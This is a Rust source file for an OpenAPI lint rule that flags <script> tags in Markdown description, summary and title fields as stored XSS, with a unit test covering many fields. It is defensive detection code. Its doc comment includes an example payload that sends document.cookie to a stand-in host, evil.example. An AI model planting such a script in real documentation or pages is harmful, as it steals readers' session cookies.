use crate::model::Markup;
use crate::rule::{Context, RuleCheck, Sink};

crate::declare_rule! {
    /// ## What it does
    /// Flags a `<script` tag (in any letter case) in a `description`, `summary` or `title`
    /// anywhere in the document: `info`, servers, tags, paths, operations, parameters, bodies,
    /// responses, headers, examples, links, security schemes, schemas and external docs.
    ///
    /// ## Why is this bad?
    /// These fields are Markdown, and documentation portals render Markdown to HTML, often
    /// with raw HTML allowed. A script in a description runs in every reader's browser on the
    /// docs site (stored XSS, OWASP A03), and a contract that comes from a third party or from
    /// user-editable sources is an easy way to plant one.
    ///
    /// ## Example
    /// ```yaml
    /// info:
    ///   title: Pets
    ///   version: 1.0.0
    ///   description: 'Welcome! <script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    /// ```
    ///
    /// Use instead:
    /// ```yaml
    /// info:
    ///   title: Pets
    ///   version: 1.0.0
    ///   description: Welcome to the Pets API.
    /// ```
    pub MarkdownScriptTag {
        id: "markdown-script-tag",
        group: Structure,
        severity: Error,
        summary: "<script> tag in a description, summary or title",
    }
}

impl RuleCheck for MarkdownScriptTag {
    fn run(&self, cx: &Context<'_>, out: &mut Sink) {
        for hit in &cx.index().markup {
            if hit.markup != Markup::ScriptTag {
                continue;
            }
            out.report(
                &hit.pointer,
                format!("`{}` contains a `<script>` tag", hit.field),
            )
            .label("script in Markdown")
            .help("Remove the script: documentation renderers may run it in readers' browsers")
            .via(cx.index().via(&hit.pointer).iter().cloned());
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::check_yaml;

    #[test]
    fn everywhere_text_lives() {
        let found = check_yaml(
            &super::MarkdownScriptTag,
            r#"
openapi: 3.0.3
info: {title: t, version: 1.0.0, description: 'hi <SCRIPT>alert(1)</SCRIPT>'}
tags: [{name: a, description: '<script src=x>'}]
paths:
  /pets:
    summary: '<script>'
    get:
      description: 'safe <scripts are not tags> but <script>x</script> is'
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema: {$ref: '#/components/schemas/Pet'}
              example: {description: '<script>data, not docs</script>'}
components:
  schemas:
    Pet:
      title: '<script>'
      type: object
      properties:
        description: {type: string, description: plain}
"#,
        );
        let got: Vec<_> = found.iter().map(|f| f.pointer.as_str()).collect();
        assert_eq!(
            got,
            [
                "/info/description",
                "/tags/0/description",
                "/paths/~1pets/summary",
                "/paths/~1pets/get/description",
                "/components/schemas/Pet/title",
            ]
        );
        assert_eq!(found[0].message, "`description` contains a `<script>` tag");
    }
}
